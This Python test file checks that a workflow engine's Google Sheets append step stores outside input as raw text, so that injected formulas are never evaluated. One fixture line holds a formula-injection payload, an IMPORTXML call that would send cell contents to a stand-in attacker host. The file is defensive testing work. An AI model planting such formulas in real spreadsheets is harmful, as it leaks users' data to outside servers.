"""Rows for a sheet: nothing that comes from outside becomes a formula in it (`=IMPORTXML(...)` sends cells away)."""

from __future__ import annotations

from typing import Any

import pytest
from pytest_httpserver import HTTPServer
from sqlalchemy import update
from sqlalchemy.orm import Session

from flowforge.db.tables import WorkflowVersion
from tests.engine.pipeline import Pipeline, working

FORMULA = '=IMPORTXML("https://evil.test/?"&A1, "//a")'
TYPED, SENT = ["=SUM(A1:A9)", 1], ["{{ trigger.body.name }}", 1]


def appended(pipeline: Pipeline, httpserver: HTTPServer, *, adopted: bool = False, **config: Any) -> tuple[str, Any]:
    """How the sheet is asked to read the rows, and the rows."""
    httpserver.expect_request("/v4/spreadsheets/s/values/A1:append").respond_with_json({"updates": {}})
    place = {"spreadsheetId": "s", "range": "A1", "apiKey": "k", "endpoint": httpserver.url_for("").rstrip("/")}
    workflow = pipeline.workflow({"type": "GOOGLE_SHEET_ROW", "config": place | config})
    with Session(pipeline.backends.engine) as session:
        session.execute(update(WorkflowVersion).values(templated=not adopted))
        session.commit()
    with working(pipeline.backends):
        pipeline.finished(pipeline.accept(workflow.id, {"body": {"name": FORMULA}}).event_id)
    [(request, _)] = httpserver.log
    return request.args["valueInputOption"], request.json["values"]


@pytest.mark.parametrize("values", [SENT, [TYPED, SENT], "{{ [trigger.body.name, 1] }}", "{{ trigger.body.name }}"])
def test_rows_from_outside_are_stored_as_they_are(pipeline: Pipeline, httpserver: HTTPServer, values: Any) -> None:
    option, rows = appended(pipeline, httpserver, values=values)
    assert option == "RAW"
    assert rows[-1][0] == FORMULA


def test_rows_that_the_owner_has_written_out_are_read_as_typed(pipeline: Pipeline, httpserver: HTTPServer) -> None:
    assert appended(pipeline, httpserver, values=TYPED) == ("USER_ENTERED", [TYPED])


def test_rows_of_adopted_workflows_are_read_as_they_were(pipeline: Pipeline, httpserver: HTTPServer) -> None:
    assert appended(pipeline, httpserver, values=SENT, adopted=True) == ("USER_ENTERED", [SENT])


@pytest.mark.parametrize("option", ["USER_ENTERED", "RAW"])
def test_what_the_owner_says_counts(pipeline: Pipeline, httpserver: HTTPServer, option: str) -> None:
    assert appended(pipeline, httpserver, values=SENT, valueInputOption=option)[0] == option
